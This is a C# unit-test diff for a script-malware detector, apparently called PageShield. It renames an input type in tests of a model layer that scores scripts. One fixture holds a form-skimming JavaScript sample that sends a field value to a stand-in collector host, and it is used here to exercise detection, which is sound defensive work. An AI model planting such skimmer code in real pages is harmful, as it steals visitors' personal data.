@@ -54,7 +54,7 @@ public sealed class TreeModelTests
     [Fact]
     public void The_model_that_is_part_of_the_program_can_be_read_and_takes_part()
     {
-        var judgement = new ScriptJudge().Judge(new ScriptToJudge { Source = "var a = 1;" });
+        var judgement = new ScriptJudge().Judge(new ScriptInput { Source = "var a = 1;" });
 
         Assert.NotNull(ModelLayer.Shipped);
         Assert.Contains(judgement.Layers, layer => layer.Layer == "model");
@@ -66,7 +66,7 @@ public sealed class TreeModelTests
     {
         var layer = new ModelLayer(new TreeModel([Tree.Of(1, [], [50])], 1, 0), "test");
 
-        var judgement = new ScriptJudge([new StaticLayer(), layer]).Judge(new ScriptToJudge { Source = "var a = 1; function b() { return a; }" });
+        var judgement = new ScriptJudge([new StaticLayer(), layer]).Judge(new ScriptInput { Source = "var a = 1; function b() { return a; }" });
 
         Assert.Equal(PageShield.Inventory.VerdictKind.Suspicious, judgement.Verdict);
         Assert.Contains(judgement.Findings, finding => finding.Rule == "resembles-malware");
@@ -76,10 +76,10 @@ public sealed class TreeModelTests
     public void The_model_adds_to_what_rules_found()
     {
         const string Source = "document.forms[0].addEventListener('submit', function () { new Image().src = 'https://collector.invalid/a?' + document.getElementById('street').value; });";
-        var rules = new ScriptJudge([new StaticLayer()]).Judge(new ScriptToJudge { Source = Source });
+        var rules = new ScriptJudge([new StaticLayer()]).Judge(new ScriptInput { Source = Source });
 
         var both = new ScriptJudge([new StaticLayer(), new ModelLayer(new TreeModel([Tree.Of(1, [], [3])], 1, 0), "test")])
-            .Judge(new ScriptToJudge { Source = Source });
+            .Judge(new ScriptInput { Source = Source });
 
         Assert.True(both.Score < rules.Score, $"{both.Score} is not below {rules.Score}");
         Assert.Equal(rules.Category, both.Category);
@@ -90,7 +90,7 @@ public sealed class TreeModelTests
     {
         var layer = new ModelLayer(new TreeModel([Tree.Of(1, [], [-4])], 1, 0), "test");
 
-        var judgement = new ScriptJudge([new StaticLayer(), layer]).Judge(new ScriptToJudge { Source = "var a = 1;" });
+        var judgement = new ScriptJudge([new StaticLayer(), layer]).Judge(new ScriptInput { Source = "var a = 1;" });
 
         Assert.DoesNotContain(judgement.Findings, finding => finding.Rule == "resembles-malware");
         Assert.Equal(99, judgement.Score);
